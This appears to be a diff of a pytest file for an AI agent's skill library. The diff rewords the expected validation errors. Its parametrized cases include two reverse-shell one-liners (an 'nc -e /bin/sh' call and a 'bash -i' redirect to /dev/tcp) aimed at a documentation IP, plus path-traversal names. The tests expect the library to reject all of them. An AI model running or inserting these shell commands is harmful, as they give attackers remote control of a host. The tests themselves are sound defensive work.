@@ -65,11 +65,11 @@ def test_create(library, home, changed):
     [
         ("draw", {}, "needs `content`"),
         ("", {"content": text("")}, "no name"),
-        ("../draw", {"content": text("../draw")}, "no name for a skill"),
+        ("../draw", {"content": text("../draw")}, "not a valid skill name"),
         ("draw", {"content": text("other")}, "its name is 'other'"),
         ("draw", {"content": "# Just prose"}, "begin with `---`"),
         ("draw", {"content": text("draw", body="x" * DOCUMENT_LIMIT)}, "is the limit"),
-        ("draw", {"content": text("draw"), "category": "../up"}, "is no category"),
+        ("draw", {"content": text("draw"), "category": "../up"}, "is not a valid category"),
         ("draw", {"content": text("draw", body="nc -e /bin/sh 203.0.113.9 80")}, "looks harmful"),
         ("draw", {"content": text("draw") + "\ud800"}, "surrogates"),
     ],
@@ -103,7 +103,7 @@ def test_near_duplicates_are_refused_with_the_existing_one_named(library, tmp_pa
 @pytest.mark.parametrize(
     ("old", "new", "why"),
     [
-        ("absent", "x", "is not there"),
+        ("absent", "x", "was not found"),
         ("Draw the axis.", "x", "The nearest passage"),
         ("", "x", "is empty"),
         (".", ".", "are the same"),
@@ -111,7 +111,7 @@ def test_near_duplicates_are_refused_with_the_existing_one_named(library, tmp_pa
         ("name: draw", "name: other", "its name is 'other'"),
         ("description: Draws a chart from a table.\n", "", "0 characters"),
         ("\n---\n# How", "\n# How", "not closed"),
-        ("from a table", "from: a table", "no valid YAML"),
+        ("from a table", "from: a table", "not valid YAML"),
         (BODY, "", "nothing below"),
         ("Draw the axes.", "bash -i >& /dev/tcp/203.0.113.9/80 0>&1", "looks harmful"),
         ("Draw the axes.", "x\0", "NUL"),
@@ -360,7 +360,7 @@ def test_previews_show_and_change_nothing(library, home, changed):
     mail = text("mail", "Sends letters.")
     assert mail in library.preview("create", "mail", content=mail)
     assert "Draws a chart" in library.preview("delete", "draw")
-    with pytest.raises(SkillError, match="is not there"):
+    with pytest.raises(SkillError, match="was not found"):
         library.preview("patch", "draw", old_string="absent", new_string="x")
     with pytest.raises(SkillError, match="exists in home skills; patch"):
         library.preview("create", "draw", content=text("draw"))
